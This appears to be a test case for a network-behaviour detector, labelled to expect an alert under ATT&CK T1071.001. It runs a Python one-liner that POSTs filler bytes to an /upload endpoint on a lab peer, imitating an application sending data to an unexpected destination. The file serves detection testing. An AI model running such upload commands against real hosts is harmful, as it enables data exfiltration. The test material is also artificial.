# id: N05
# title: A process of the application connects to where it never did
# expect: alert
# severity: medium
# kinds: network
# attck: T1071.001
# image: python
# launch: app
# peers: http:8000

python3 -c '
import urllib.request
try:
    urllib.request.urlopen("http://http:8000/upload", data=b"stand-in" * 100, timeout=3).read()
except OSError as fault:
    print(fault)'
